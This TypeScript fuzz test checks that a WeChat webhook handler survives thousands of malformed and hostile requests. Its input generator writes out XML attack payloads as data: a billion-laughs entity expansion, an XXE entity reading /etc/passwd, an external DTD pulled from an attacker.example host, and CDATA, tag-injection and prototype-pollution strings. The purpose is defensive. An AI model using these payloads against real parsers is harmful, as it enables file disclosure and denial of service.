import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  buildPushRequest,
  buildXml,
  computeSignature,
  createMemoryDedupStore,
  createMemoryReplayStore,
  createWebhookHandler,
  encryptMessage,
  openReply,
  parseXml,
  type WebhookRequest,
  type WebhookResult,
} from '../../../lib/wechat';

// Property: whatever arrives, the handler resolves (never throws, never leaves a rejection
// unhandled) with a 4xx or a 200 that WeChat can read (`success`, or XML that parses/decrypts).

const ITERATIONS = 12_000;
const SEED = 0x5eed; // fixed so a failure reproduces; change it locally to explore
const TOKEN = 'fuzz-token';
const APP_ID = 'wxfuzz00000000000';
const AES = 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG';
const NOW = 1_714_037_059_000;
const TS = String(NOW / 1000);

function mulberry32(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(SEED);
const int = (n: number) => Math.floor(rand() * n);
const pick = <T>(items: readonly T[]): T => items[int(items.length)];
const bytes = (n: number) => Buffer.from(Array.from({ length: n }, () => int(256)));

const HOSTILE_TEXT = [
  ']]>',
  ']]]]><![CDATA[>',
  '<!DOCTYPE x>',
  '&lol;',
  '\u0000\u0001\u0008',
  '\ud800',
  '\uffff\ufffe',
  '😀中文',
  '</Content><MsgType>news</MsgType>',
  '__proto__',
  'x'.repeat(3000),
  '',
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '#text',
  'xml',
  'A',
  'MsgType',
  'a:b',
  '1bad',
  'Event',
];

function validEvent(): string {
  return buildXml({
    ToUserName: 'gh_fuzz',
    FromUserName: `o_${int(50)}`,
    CreateTime: 1_714_037_000 + int(100),
    MsgType: pick(['event', 'event', 'text', 'image', 'voice']),
    Event: pick(['subscribe', 'SCAN', 'unsubscribe', 'CLICK', 'VIEW', 'TEMPLATESENDJOBFINISH', 'LOCATION', '']),
    EventKey: pick(['qrscene_abc', 'abc', 'qrscene_', '', pick(HOSTILE_TEXT)]),
    Content: pick(HOSTILE_TEXT),
    ...(rand() < 0.5 ? { MsgId: String(BigInt(int(2 ** 31)) * 4_294_967_296n + BigInt(int(2 ** 31))) } : {}),
  });
}

function mutate(text: string): string {
  const chars = [...text];
  for (let i = 0, n = 1 + int(8); i < n && chars.length > 0; i++) {
    const at = int(chars.length);
    const op = int(4);
    if (op === 0) chars.splice(at, 1);
    else if (op === 1) chars.splice(at, 0, pick(['<', '>', '&', ']]>', '<!', '/', '"', '\u0000', pick(NAMES)]));
    else if (op === 2) chars[at] = String.fromCharCode(int(0x10000));
    else chars.splice(at, int(20));
  }
  return chars.join('');
}

function hostileBody(i: number): string {
  switch (int(13)) {
    case 0:
      return bytes(int(2000)).toString('latin1');
    case 1:
      return bytes(int(2000)).toString('utf8');
    case 2: {
      const entities = Array.from({ length: 10 }, (_, k) => `<!ENTITY l${k + 1} "${`&l${k};`.repeat(10)}">`).join('');
      return `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY l0 "lol">${entities}]><xml><Content>&l10;</Content></xml>`;
    }
    case 3:
      return pick([
        '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
        '<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml/>',
        '<xml><!ENTITY % p SYSTEM "http://x"></xml>',
      ]);
    case 4: {
      const depth = pick([6, 50, 1000, 9000, 12_000]);
      return `<xml>${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}</xml>`;
    }
    case 5:
      // A few 1 MB bodies, not thousands: the size check must not depend on how large they are.
      return i % 500 === 0
        ? `<xml><Content><![CDATA[${'中'.repeat(350_000)}]]></Content></xml>`
        : `<xml>${'<A>1</A>'.repeat(9000)}</xml>`;
    case 6:
      return `<xml><${pick(NAMES)}><${pick(NAMES)}>1</${pick(NAMES)}></${pick(NAMES)}>${validEvent().slice(5)}`;
    case 7:
      return `<xml><${pick(NAMES)}>v</${pick(NAMES)}><MsgType>text</MsgType></xml>`;
    case 8:
      return mutate(validEvent());
    case 9:
      return validEvent();
    case 10:
      return `${validEvent()}${pick(['', 'trailing', '<xml/>', '<!-- c -->', '<?pi x?>'])}`;
    case 11:
      return pick([
        '',
        ' ',
        '<',
        '<xml',
        '<xml>',
        '</xml>',
        '<xml/>',
        '<?xml?>',
        '<![CDATA[',
        'success',
        '{"json":true}',
      ]);
    default:
      return buildXml({ Encrypt: pick([bytes(int(300)).toString('base64'), '', '====', 'AAAA', pick(HOSTILE_TEXT)]) });
  }
}

function hostileQuery(body: string, aesMode: boolean): Record<string, string | undefined> {
  const timestamp = pick([
    TS,
    TS,
    TS,
    '0',
    '-1',
    '99999999999999999999',
    '1e9',
    ' 1714037059',
    '',
    String(NOW / 1000 - 301),
  ]);
  const nonce = pick(['1', String(int(1e9)), '', '\u0000', 'x'.repeat(500)]);
  const query: Record<string, string | undefined> = { timestamp, nonce };
  const roll = rand();
  query.signature =
    roll < 0.85
      ? computeSignature(TOKEN, timestamp, nonce)
      : pick(['', 'x', '0'.repeat(40), bytes(20).toString('hex'), undefined]);
  if (aesMode) {
    query.encrypt_type = pick(['aes', 'aes', 'aes', 'raw', 'AES', '', undefined]);
    let encrypt = '';
    try {
      encrypt = parseXml(body).Encrypt ?? '';
    } catch {
      encrypt = bytes(32).toString('base64');
    }
    query.msg_signature =
      rand() < 0.8 ? computeSignature(TOKEN, timestamp, nonce, encrypt) : pick(['', '0'.repeat(40), undefined]);
  }
  if (rand() < 0.05) query.echostr = pick(['echo', '<script>', '']);
  return query;
}

// Valid envelopes around hostile plaintexts: the signature and decryption succeed, the inside is garbage.
function encryptedGarbage(i: number): WebhookRequest {
  const inner = rand() < 0.3 ? validEvent() : hostileBody(i);
  let message = inner;
  if (Buffer.byteLength(message) > 100_000) message = message.slice(0, 100_000);
  const appId = rand() < 0.9 ? APP_ID : 'wxother';
  const encrypt = encryptMessage({ aesKey: AES, appId, message });
  const nonce = String(int(1e9));
  return {
    method: 'POST',
    query: {
      timestamp: TS,
      nonce,
      encrypt_type: 'aes',
      msg_signature: computeSignature(TOKEN, TS, nonce, encrypt),
      signature: computeSignature(TOKEN, TS, nonce),
    },
    rawBody:
      rand() < 0.8
        ? buildXml({ ToUserName: 'gh', Encrypt: encrypt })
        : `<xml><Encrypt><![CDATA[${encrypt}]]></Encrypt>${mutate('<A>1</A>')}</xml>`,
  };
}

function makeHandler(encodingAesKey?: string) {
  let n = 0;
  return createWebhookHandler({
    token: TOKEN,
    appId: APP_ID,
    encodingAesKey,
    timestampWindowSeconds: 300,
    replay: createMemoryReplayStore({ now: () => NOW }),
    dedup: createMemoryDedupStore(),
    now: () => NOW,
    busyPollMs: 5,
    onMessage: async () => {
      n++;
      if (n % 17 === 0) throw new Error('domain failure');
      return n % 5 === 0 ? null : pick(HOSTILE_TEXT);
    },
    onError: () => undefined,
  });
}

function checkResult(res: WebhookResult, req: WebhookRequest, aesMode: boolean): void {
  assert.equal(typeof res.status, 'number');
  assert.equal(typeof res.body, 'string');
  if (res.status >= 400 && res.status < 500) {
    assert.equal(typeof JSON.parse(res.body).error.code, 'string');
    return;
  }
  // A domain failure is not acknowledged: 503, so WeChat delivers the push again.
  if (res.status === 503) {
    assert.ok(['handler_failed', 'in_progress', 'deadline'].includes(JSON.parse(res.body).error.code), res.body);
    return;
  }
  assert.equal(res.status, 200, `unexpected status ${res.status}: ${res.body.slice(0, 200)}`);
  if (req.method.toUpperCase() === 'GET') {
    assert.equal(res.body, req.query.echostr);
    return;
  }
  if (res.body === 'success') return;
  assert.equal(res.headers['Content-Type'], 'application/xml; charset=utf-8');
  const inner = openReply({ body: res.body, token: TOKEN, appId: APP_ID, aesKey: AES });
  assert.ok(inner !== null);
  const fields = parseXml(inner);
  assert.equal(fields.MsgType, 'text');
  assert.equal(typeof fields.Content, 'string');
  if (aesMode && req.query.encrypt_type === 'aes') assert.ok(parseXml(res.body).Encrypt);
}

describe('webhook fuzz', () => {
  const unhandled: unknown[] = [];
  const onUnhandled = (reason: unknown) => unhandled.push(reason);
  before(() => process.on('unhandledRejection', onUnhandled));
  after(() => process.off('unhandledRejection', onUnhandled));

  it(`survives ${ITERATIONS} random and hostile requests (seed ${SEED})`, async () => {
    const plain = makeHandler();
    const aes = makeHandler(AES);
    const statuses = new Map<number, number>();
    let replies = 0;
    const codes = new Map<string, number>();
    const batch: Array<Promise<void>> = [];
    for (let i = 0; i < ITERATIONS; i++) {
      const aesMode = rand() < 0.5;
      let req: WebhookRequest;
      if (aesMode && rand() < 0.35) {
        req = encryptedGarbage(i);
      } else if (rand() < 0.1) {
        req = buildPushRequest({
          token: TOKEN,
          appId: APP_ID,
          aesKey: AES,
          mode: aesMode ? pick(['safe', 'compatible'] as const) : 'plaintext',
          messageXml: validEvent(),
          timestamp: TS,
          nonce: String(i),
        });
      } else {
        const body = hostileBody(i);
        req = {
          method: rand() < 0.9 ? 'POST' : pick(['GET', 'post', 'DELETE', '']),
          query: hostileQuery(body, aesMode),
          rawBody: body,
        };
      }
      if (rand() < 0.01) (req as { query: unknown }).query = pick([null, undefined, 'x', ['a']]);
      if (rand() < 0.01) (req as { rawBody: unknown }).rawBody = pick([null, undefined, 42, Buffer.from('<xml/>')]);
      const handler = aesMode ? aes : plain;
      const run = handler(req).then((res) => {
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        if (res.status === 200 && res.body !== 'success') replies++;
        codes.set(res.errorCode ?? 'ok', (codes.get(res.errorCode ?? 'ok') ?? 0) + 1);
        try {
          checkResult(res, req, aesMode);
        } catch (err) {
          (err as Error).message +=
            `\nrequest: ${JSON.stringify({ ...req, rawBody: String(req.rawBody).slice(0, 300) })}`;
          throw err;
        }
      });
      batch.push(run);
      if (batch.length >= 32) await Promise.all(batch.splice(0));
    }
    await Promise.all(batch);
    await new Promise((resolve) => setTimeout(resolve, 50));
    assert.deepEqual(unhandled, []);
    // The generator must reach the interesting paths, not only early refusals.
    assert.ok((statuses.get(200) ?? 0) > 500, `200s: ${statuses.get(200)}`);
    assert.ok(replies > 100, `replies: ${replies}`);
    for (const status of [400, 401, 403, 413])
      assert.ok((statuses.get(status) ?? 0) > 50, `status ${status}: ${statuses.get(status)}`);
    for (const code of [
      'doctype',
      'too_deep',
      'too_large',
      'malformed',
      'forbidden_name',
      'replayed_signature',
      'decrypt_appid_mismatch',
      'stale_timestamp',
    ]) {
      assert.ok(codes.has(code), `never reached ${code}`);
    }
  });
});
